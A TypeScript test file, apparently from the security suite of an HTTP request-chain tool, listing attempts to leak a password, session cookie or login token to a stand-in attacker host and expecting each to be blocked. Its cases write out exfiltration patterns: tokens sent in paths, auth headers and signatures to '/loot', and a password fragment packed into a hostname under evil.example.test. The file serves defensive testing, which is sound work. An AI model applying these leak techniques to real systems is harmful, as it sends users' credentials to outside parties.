/** Attacks that send away what an answer to a request with a secret said: redirects, extractions, cookies, tokens. */
import { learn, login, PASSWORD, send, type Attack, type AttackGroup, type Setup } from './attack';
import type { Stage } from './stage';

const STATUSES = [301, 302, 303, 307, 308];

const redirects: readonly Attack[] = [
  ...STATUSES.map((status) =>
    redirect(`a ${status} with the password in its Location`, `redirect/${status}`),
  ),
  redirect('a redirect without scheme, with a token in its Location', 'redirect-relative'),
  redirect('two redirects, the second with the password', 'redirect-twice'),
  ...STATUSES.map((status) => redirect(`a ${status} after the password was sent`, `redirect-bare/${status}`)),
];

/** Even where a chain names the stranger, so that requests there are allowed. */
function redirect(name: string, route: string): Attack {
  return {
    name: `follows ${name}`,
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [
        {
          id: 'learn',
          method: 'GET',
          url: `{{baseUrl}}/${route}`,
          headers: [{ name: 'X-Key', value: PASSWORD }],
        },
        { ...send(`${stranger}/named`), disabled: true },
      ],
    }),
  };
}

/** How a part of an answer becomes the variable `piece`. */
const RULES: readonly (readonly [name: string, route: string, rule: object])[] = [
  ['the whole password', 'echo', { path: '$.raw' }],
  ['its first half by JSONPath', 'echo', { path: '$.halves[0]' }],
  ['its second half by JSONPath', 'echo', { path: '$.halves[1]' }],
  ['its first half by a regular expression', 'echo', { regex: '"raw":"(.{12})' }],
  ['five characters by a regular expression', 'echo', { regex: '"raw":"(.{5})' }],
  ['its first character', 'echo', { path: '$.characters[0]' }],
  ['all its characters as a list', 'echo', { path: '$.characters' }],
  ['all its pieces as a list', 'echo', { path: '$.pieces[*]', all: true }],
  ['its reversed pieces', 'echo', { path: '$.pairs' }],
  ['its codes as numbers', 'echo', { path: '$.codes' }],
  ['it as hexadecimal', 'echo', { path: '$.hex' }],
  ['it as base64', 'echo', { path: '$.base64' }],
  ['it as base64, decoded', 'echo', { path: '$.base64', decode: { as: 'base64' } }],
  ['it as double base64', 'echo', { path: '$.double' }],
  ['it reversed', 'echo', { path: '$.reversed' }],
  ['it shifted by one letter', 'echo', { path: '$.shifted' }],
  ['a sentence around it', 'echo', { path: '$.sentence' }],
  ['the whole answer', 'echo', {}],
  ['it from a header', 'echo', { from: 'header', name: 'X-Key' }],
  ['it from a page', 'page', { css: '#key' }],
  ['a token from the login', 'login', { path: '$.token' }],
  ['a key deep in the login', 'login', { path: '$.user.key' }],
  ['an object of the login', 'login', { path: '$.user' }],
  ['a number of the login', 'login', { path: '$.id' }],
  ['the session cookie', 'login', { from: 'cookie', name: 'session' }],
  ['a code from the URL of a redirect', 'landing', { from: 'url', regex: 'code=(.*)' }],
  ['the status', 'login', { from: 'status' }],
];

const extracted: readonly Attack[] = RULES.map(([what, route, rule]) => ({
  name: `extracts ${what} and sends it to an origin that the chain writes`,
  verdict: 'nothing-arrives',
  setup: ({ stranger }) => ({
    requests: [learnFrom(route, rule), send(`${stranger}/loot`, { body: { json: { k: '{{piece}}' } } })],
  }),
}));

function learnFrom(route: string, rule: object): object {
  const learning = learn(route, rule);
  // Redirects of the shop are followed only without a body.
  return route === 'landing'
    ? { ...learning, method: 'GET', body: undefined, headers: [{ name: 'X-Key', value: PASSWORD }] }
    : learning;
}

const tokenAt =
  (request: (stage: Stage) => object, more: (stage: Stage) => Setup = () => ({})) =>
  (stage: Stage): Setup => ({
    requests: [login, request(stage)],
    ...more(stage),
  });

const tokens: readonly Attack[] = [
  {
    name: 'sends the token of a login as a bearer token',
    verdict: 'nothing-arrives',
    setup: tokenAt(({ stranger }) =>
      send(`${stranger}/loot`, { auth: { type: 'bearer', token: '{{token}}' } }),
    ),
  },
  {
    name: 'sends the token in a path, after a prefix',
    verdict: 'nothing-arrives',
    setup: tokenAt(({ stranger }) => send(`${stranger}/loot/v1-{{token}}`)),
  },
  {
    name: 'sends the token by a variable of the chain',
    verdict: 'nothing-arrives',
    setup: tokenAt(
      ({ stranger }) => send(`${stranger}/loot/{{copy}}`),
      () => ({ chain: { variables: { copy: 'v1-{{token}}' } } }),
    ),
  },
  {
    name: 'sends the token as the user of basic authentication',
    verdict: 'nothing-arrives',
    setup: tokenAt(({ stranger }) =>
      send(stranger, { auth: { type: 'basic', username: '{{token}}', password: '' } }),
    ),
  },
  {
    name: 'signs with the token for AWS',
    verdict: 'nothing-arrives',
    setup: tokenAt(({ stranger }) =>
      send(stranger, {
        auth: { type: 'awsSigV4', accessKeyId: 'a', secretAccessKey: '{{token}}', region: 'r', service: 's' },
      }),
    ),
  },
  {
    name: 'signs with the token for OAuth 1.0',
    verdict: 'nothing-arrives',
    setup: tokenAt(({ stranger }) =>
      send(stranger, {
        auth: { type: 'oauth1', consumerKey: 'a', consumerSecret: 'b', tokenSecret: '{{token}}' },
      }),
    ),
  },
  {
    name: 'sends the token of a required login',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [send(`${stranger}/loot/{{token}}`)],
      chain: { requires: ['login.chain.json'] },
      files: { 'login.chain.json': { formatVersion: 1, name: 'Login', requests: [login] } },
    }),
  },
  {
    name: 'sends what the shop gave for the token',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [
        login,
        {
          id: 'swap',
          method: 'POST',
          url: '{{baseUrl}}/swap',
          auth: { type: 'bearer', token: '{{token}}' },
          extract: [{ variable: 'swapped', from: 'body', path: '$.value' }],
        },
        send(`${stranger}/loot/{{swapped}}`),
      ],
    }),
  },
  {
    name: 'sends what the shop gave for the session cookie',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [
        { ...login, extract: [] },
        {
          id: 'swap',
          method: 'GET',
          url: '{{baseUrl}}/swap',
          extract: [{ variable: 'swapped', from: 'body', path: '$.value' }],
        },
        send(`${stranger}/loot/{{swapped}}`),
      ],
    }),
  },
  {
    name: 'calls a URL that the answer to the login names',
    verdict: 'nothing-arrives',
    setup: () => ({ requests: [learn('link', { path: '$.url' }), send('{{piece}}')] }),
  },
  {
    name: 'calls a bare origin that the answer names, which the chain names too',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [
        learn('link', { path: '$.bare' }),
        send('{{piece}}/loot'),
        { ...send(`${stranger}/named`), id: 'named', disabled: true },
      ],
    }),
  },
  {
    name: 'sends half of the password in the name of a host',
    verdict: 'nothing-arrives',
    setup: ({ proxy, strangerPort }) => ({
      requests: [
        learn('echo', { regex: '"raw":"(.{12})' }),
        send(`http://{{piece}}.evil.example.test:${strangerPort}/loot`),
      ],
      args: ['--proxy', proxy],
    }),
  },
  {
    name: 'sends the token to an origin of allowHosts in the environment',
    verdict: 'nothing-arrives',
    setup: tokenAt(
      () => send('http://evil.example.test/loot/{{token}}'),
      ({ proxy }) => ({
        environment: { allowHosts: ['http://evil.example.test'] },
        args: ['--proxy', proxy],
      }),
    ),
  },
];

/** What followed from a secret. */
export const derivedValues: AttackGroup = {
  name: 'derived values',
  attacks: [...redirects, ...extracted, ...tokens],
};
